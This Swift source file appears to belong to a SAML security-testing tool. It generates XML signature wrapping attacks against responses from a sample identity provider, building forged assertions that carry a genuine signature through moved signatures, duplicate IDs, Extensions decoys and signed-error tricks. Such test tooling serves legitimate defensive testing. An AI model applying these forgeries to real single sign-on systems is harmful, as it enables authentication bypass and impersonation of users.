internal import Diagnostics
internal import SampleIdP

/// Attacks that move what was signed to where it is verified, and put something else where it is read.
extension AttackGenerator {
  /// Nil for attacks of another kind.
  func wrapping(_ attack: SAMLAttack) throws(CodedError) -> ResponseSurgery? {
    switch attack {
    case .wrapping1, .wrapping2: try wrappedResponse(attack)
    case .wrapping3, .wrapping4, .secondAssertion: try assertionBesideSigned(attack)
    case .wrapping5, .wrapping6, .wrapping8, .namespacedID: try assertionWithMovedSignature(attack)
    case .wrapping7, .signedDecoyInExtensions, .duplicateID: try assertionInExtensions(attack)
    case .forgedAssertionInObjectOfSignedError, .forgedAssertionBesideSignedError: try signedErrorWithAssertion(attack)
    default: nil
    }
  }

  /// A forged response with the genuine one's signature, and the genuine one within it.
  private func wrappedResponse(_ attack: SAMLAttack) throws(CodedError) -> ResponseSurgery {
    let genuine = try surgery(.response)
    let signature = genuine.element("ds:Signature")
    let original = genuine.removing("ds:Signature").text
    let forged = try forgedResponse()
    if attack == .wrapping2 {
      return forged.inserting(signature, before: "<samlp:Status>").inserting(original, before: "</samlp:Response>")
    }
    let wrapping = signature.replacingLast("</ds:Signature>", with: original + "</ds:Signature>")
    return forged.inserting(wrapping, before: "<samlp:Status>")
  }

  private func assertionBesideSigned(_ attack: SAMLAttack) throws(CodedError) -> ResponseSurgery {
    let genuine = try surgery()
    let signed = genuine.element("saml:Assertion")
    let forged = try forgedAssertion()
    switch attack {
    case .wrapping3: return genuine.replacing(signed, with: forged + signed)
    case .secondAssertion: return genuine.replacing(signed, with: signed + forged)
    default:
      let end = "</saml:Assertion>"
      return genuine.replacing(signed, with: forged.replacingLast(end, with: signed + end))
    }
  }

  /// The forged assertion carries the genuine signature, and the genuine assertion hides somewhere.
  private func assertionWithMovedSignature(_ attack: SAMLAttack) throws(CodedError) -> ResponseSurgery {
    let genuine = try surgery()
    let signed = genuine.element("saml:Assertion")
    let signature = genuine.element("ds:Signature")
    let bare = genuine.removing("ds:Signature").element("saml:Assertion")
    var forged = ResponseSurgery(Array(try forgedAssertion().utf8))
    let end = "</ds:Signature>"
    switch attack {
    case .wrapping6: forged = forged.inserting(signature.replacingLast(end, with: bare + end), before: "<saml:Subject>")
    case .wrapping8:
      let object = "<ds:Object>\(bare)</ds:Object>"
      forged = forged.inserting(signature.replacingLast(end, with: object + end), before: "<saml:Subject>")
    case .namespacedID:
      forged = forged.inserting(signature, before: "<saml:Subject>")
      let identifier = "xmlns:x=\"urn:x\" x:ID=\"\(genuine.assertionID)\" "
      return genuine.replacing(signed, with: forged.inserting(identifier, before: "ID=\"").text)
    default: forged = forged.inserting(signature, before: "<saml:Subject>")
    }
    return genuine.replacing(signed, with: attack == .wrapping5 ? forged.text + bare : forged.text)
  }

  private func assertionInExtensions(_ attack: SAMLAttack) throws(CodedError) -> ResponseSurgery {
    let genuine = try surgery()
    let signed = genuine.element("saml:Assertion")
    let forged = try forgedAssertion()
    switch attack {
    case .signedDecoyInExtensions:
      return genuine.replacing(signed, with: forged).inserting(Self.extensions(signed), before: "<samlp:Status>")
    case .wrapping7:
      let twin = ResponseSurgery(Array(forged.utf8)).withAssertionID(genuine.assertionID).text
      return genuine.inserting(Self.extensions(twin), before: "<samlp:Status>")
    default:
      let twin = "<saml:Advice ID=\"\(genuine.assertionID)\"/>"
      return genuine.inserting(Self.extensions(twin), before: "<samlp:Status>")
    }
  }

  private func signedErrorWithAssertion(_ attack: SAMLAttack) throws(CodedError) -> ResponseSurgery {
    let error = try signedError()
    let forged = try forgedAssertion()
    if attack == .forgedAssertionBesideSignedError { return error.inserting(forged, before: "</samlp:Response>") }
    return error.inserting("<ds:Object>\(forged)</ds:Object>", before: "</ds:Signature>")
  }

  private static func extensions(_ content: String) -> String {
    "<samlp:Extensions>\(content)</samlp:Extensions>"
  }
}

extension ResponseSurgery {
  /// The value of the assertion's ID.
  var assertionID: String {
    let parts = element("saml:Assertion").split(separator: " ID=\"", maxSplits: 1)
    return parts.last?.split(separator: "\"").first.map(String.init) ?? ""
  }

  func withAssertionID(_ identifier: String) -> ResponseSurgery {
    replacing("ID=\"\(assertionID)\"", with: "ID=\"\(identifier)\"")
  }
}

extension String {
  /// Replaces the last occurrence of `old`.
  func replacingLast(_ old: String, with new: String) -> String {
    guard let found = ranges(of: old).last else { return self }
    return replacingCharacters(in: found, with: new)
  }

  private func replacingCharacters(in range: Range<Index>, with new: String) -> String {
    self[..<range.lowerBound] + new + self[range.upperBound...]
  }
}
